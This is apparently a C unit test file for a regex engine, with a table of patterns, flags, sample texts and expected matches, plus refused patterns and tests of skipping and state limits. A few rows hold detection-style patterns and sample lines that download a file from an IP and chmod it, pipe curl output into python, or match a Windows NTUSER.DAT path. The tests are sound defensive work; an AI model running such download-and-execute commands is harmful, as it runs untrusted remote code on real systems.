/* The regex engine, by a table: what occurs, what does not, what is refused. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "base/err.h"
#include "base/vec.h"
#include "regex/regex.h"

static const struct { const char *pattern, *flags, *text; bool found; } rows[] = {
	{"abc", "", "xxabcxx", true}, {"abc", "", "xxABCxx", false}, {"abc", "i", "xxABCxx", true}, {"", "", "", true},
	{"^$", "", "", true}, {"^$", "", "\n", true}, {"^$", "", "a", false}, {"^abc$", "", "abc", true},
	{"^abc$", "", "abc\n", true}, {"^abc$", "", "abc\n\n", false}, {"^abc$", "", "xabc", false},
	{"^b$", "", "a\nb\nc", false}, {"^b$", "m", "a\nb\nc", true}, {"^", "m", "", true}, {"b\\z", "", "b\n", false},
	{"b\\Z", "", "b\n", true}, {"\\Ab", "m", "a\nb", false}, {"a.c", "", "abc", true}, {"a.c", "", "a\nc", false},
	{"a.c", "s", "a\nc", true}, {"a.c", "", "a\xc3\xa9""c", true}, {"a..c", "", "a\xc3\xa9""c", false},
	{"a[^x]c", "", "a\xe2\x82\xac""c", true}, {"[\xc3\xa0-\xc3\xbc]+$", "", "x\xc3\xa9\xc3\xa8", true},
	{"\xc3\x89", "i", "\xc3\xa9", true}, {"k", "i", "\xe2\x84\xaa", true}, {"[^k]", "i", "K", false},
	{"a*b", "", "b", true}, {"a+b", "", "b", false}, {"a?b$", "", "aab", true}, {"^a?b$", "", "aab", false},
	{"a{2}", "", "aba", false}, {"a{2,3}$", "", "baa", true}, {"^a{2,3}$", "", "aaaa", false}, {"^a{2,}$", "", "aaaa", true},
	{"a{,2}", "", "a{,2}", true}, {"a{x", "", "a{x", true}, {"(ab|cd)+e", "", "xabcde", true}, {"(ab|cd)+e", "", "xace", false},
	{"(|a)b", "", "b", true}, {"()", "", "", true}, {"(?:a|b)c", "", "bc", true}, {"(?<n>a)b", "", "ab", true},
	{"(?P<n>a)b", "", "ab", true}, {"a(?#note)b", "", "ab", true}, {"(?i)abc", "", "ABC", true}, {"a(?i:b)c", "", "aBc", true},
	{"a(?i:b)c", "", "aBC", false}, {"a(?i)b(?-i)c", "", "aBc", true}, {"(?i-s:a.)b", "s", "A\nb", false},
	{"(?x) a b # c\n c", "", "abc", true}, {"(a(?i)b|c)d", "", "Cd", true}, {"(a(?i)b)d", "", "aBD", false},
	{"\\bfoo\\b", "", "a foo.", true}, {"\\bfoo\\b", "", "a food", false}, {"\\Boo\\b", "", "foo", true},
	{"\\bfoo$", "", "xfoo", false}, {"\\d\\w\\s", "", "1_\t", true}, {"\\D\\W\\S", "", "1_ ", false},
	{"\\D\\W\\S", "", "a- b-!", true}, {"\\x41\\x{263a}", "", "A\xe2\x98\xba", true}, {"\\t\\n\\r\\e", "", "\t\n\r\033", true},
	{"\\.\\*\\\\\\/", "", ".*\\/", true}, {"\\Qa.b\\E.", "", "a.bc", true}, {"\\Qa.b\\E.", "", "axbc", false},
	{"[]a]+$", "", "]a", true}, {"[^]a]", "", "]a", false}, {"[a-c-]", "", "-", true}, {"[\\w-]+$", "", "a-b", true},
	{"[[:alpha:]_]+$", "", "ab_", true}, {"[[:^digit:]]", "", "12", false}, {"[a\\]b]", "", "]", true},
	{"[\\x30-\\x39]", "", "5", true}, {"a|b|", "", "", true}, {"x*?y+?", "", "y", true}, {"(a{2}){3}$", "", "aaaaaa", true},
	{"^(a{2}){3}$", "", "aaaaa", false}, {"(a*)*b", "", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac", false},
	{"(a|aa)+$", "", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", false}, {"\\bword", "", "\xc3\xa9word", true},
	{"a\\", NULL, NULL, false},
	/* Those that vectorscan 5.4.9 loses. */
	{"a(b|c).*[xy]z", "", "abaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaxz", true},
	{"(curl|wget|fetch) .*(;|&&) *chmod", "", "wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x", true},
	{"curl.*\\|\\s*python", "s", "curl http://xxxx:8000/ 2>&1 | python", true},
	{"^C:\\\\Users\\\\[^\\\\]+\\\\NTUSER\\.DAT$", "", "C:\\Users\\7z7zzz7zzzz7qzz77z77qq7qz77z77zzzzq7zzq7z7zqqq77q7qzq\\NTUSER.DAT", true},
};

static const struct { const char *pattern; int error; } refused[] = {
	{"(a", ERR_FORMAT}, {"a)", ERR_FORMAT}, {"[a", ERR_FORMAT}, {"*a", ERR_FORMAT}, {"a\\", ERR_FORMAT},
	{"[b-a]", ERR_FORMAT}, {"a{3,2}", ERR_FORMAT}, {"(?=a)", ERR_UNSUPPORTED}, {"(?!a)", ERR_UNSUPPORTED},
	{"(?<=a)b", ERR_UNSUPPORTED}, {"(?<!a)b", ERR_UNSUPPORTED}, {"(a)\\1", ERR_UNSUPPORTED}, {"(?>a)", ERR_UNSUPPORTED},
	{"a++", ERR_UNSUPPORTED}, {"(?R)", ERR_UNSUPPORTED}, {"\\p{L}", ERR_UNSUPPORTED}, {"(*FAIL)", ERR_UNSUPPORTED},
	{"a{1001}", ERR_LIMIT}, {"((a{1000}){1000}){1000}", ERR_LIMIT}, {"\\x{110000}", ERR_FORMAT}, {"(?i", ERR_FORMAT},
};

static struct regex_flags flags_of(const char *text)
{
	return (struct regex_flags){strchr(text, 'i') != NULL, strchr(text, 'm') != NULL, strchr(text, 's') != NULL};
}

static void test_rows(void **state)
{
	struct regex_cache *c = regex_cache_new();
	struct buf blocks[sizeof rows / sizeof *rows] = {0}, why = {0};
	size_t at;

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		if (!rows[i].text)
			continue;
		if (regex_compile(str_c(rows[i].pattern), flags_of(rows[i].flags), &blocks[i], &why, &at) != 0)
			fail_msg("row %zu '%s': %.*s", i, rows[i].pattern, STR_ARGS(buf_get(&why)));
		assert_true(regex_is_sound(blocks[i].p, blocks[i].n));
		const struct regex *r = (const void *)blocks[i].p;
		for (int times = 0; times < 2; times++)
			if (regex_search(r, c, str_c(rows[i].text)) != rows[i].found)
				fail_msg("row %zu '%s' on '%s': not %d", i, rows[i].pattern, rows[i].text, rows[i].found);
	}
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++)
		buf_free(&blocks[i]);
	buf_free(&why);
	regex_cache_free(c);
}

static void test_refused(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof refused / sizeof *refused; i++) {
		struct buf block = {0}, why = {0};
		size_t at;
		int rc = regex_compile(str_c(refused[i].pattern), (struct regex_flags){0}, &block, &why, &at);
		if (rc != refused[i].error || why.n == 0 || at > strlen(refused[i].pattern))
			fail_msg("'%s': %d at %zu: %.*s", refused[i].pattern, rc, at, STR_ARGS(buf_get(&why)));
		buf_free(&block);
		buf_free(&why);
	}
}

/* At every distance between the parts: an engine that skips ahead by vectors must not skip too far. */
static void test_distances(void **state)
{
	struct regex_cache *c = regex_cache_new();
	struct buf block = {0}, why = {0}, text = {0};
	size_t at;

	(void)state;
	assert_int_equal(regex_compile(STR("a(b|c).*[xy]z"), (struct regex_flags){0}, &block, &why, &at), 0);
	for (size_t n = 0; n < 300; n++) {
		buf_clear(&text);
		buf_text(&text, "ab");
		for (size_t i = 0; i < n; i++)
			buf_byte(&text, 'a');
		buf_text(&text, "xz");
		if (!regex_search((const void *)block.p, c, buf_get(&text)))
			fail_msg("lost at distance %zu", n);
	}
	buf_free(&text);
	buf_free(&block);
	regex_cache_free(c);
}

/* More states than are kept: forgotten, and found again. */
static void test_bound(void **state)
{
	struct regex_cache *c = regex_cache_new();
	struct buf block = {0}, why = {0}, text = {0};
	uint32_t x = 1;
	size_t at;

	(void)state;
	assert_int_equal(regex_compile(STR("a[ab]{14}c$"), (struct regex_flags){0}, &block, &why, &at), 0);
	for (int i = 0; i < 60000; i++) {
		x = x * 1664525 + 1013904223;
		buf_byte(&text, x >> 31 ? 'a' : 'b');
	}
	assert_false(regex_search((const void *)block.p, c, buf_get(&text)));
	buf_text(&text, "aaaaaaaaaaaaaaac");
	assert_true(regex_search((const void *)block.p, c, buf_get(&text)));
	buf_free(&text);
	buf_free(&block);
	regex_cache_free(c);
}

static void test_any(void **state)
{
	static const struct regex_pattern patterns[] = {
		{{"^foo", 4}, {0}}, {{"BAR", 3}, {.nocase = true}}, {{"a.b", 3}, {.dotall = true}},
	};
	struct regex_cache *c = regex_cache_new();
	struct buf block = {0}, why = {0};
	size_t at;

	(void)state;
	assert_int_equal(regex_compile_any(patterns, 3, &block, &why, &at), 0);
	const struct regex *r = (const void *)block.p;
	assert_true(regex_search(r, c, STR("foo")));
	assert_false(regex_search(r, c, STR("xfoo")));
	assert_true(regex_search(r, c, STR("xbar")));
	assert_true(regex_search(r, c, STR("a\nb")));
	assert_false(regex_search(r, c, STR("FOO a  b x")));
	assert_false(regex_is_sound(block.p, block.n - 1));
	buf_free(&block);
	regex_cache_free(c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows), cmocka_unit_test(test_refused), cmocka_unit_test(test_distances),
		cmocka_unit_test(test_bound), cmocka_unit_test(test_any),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
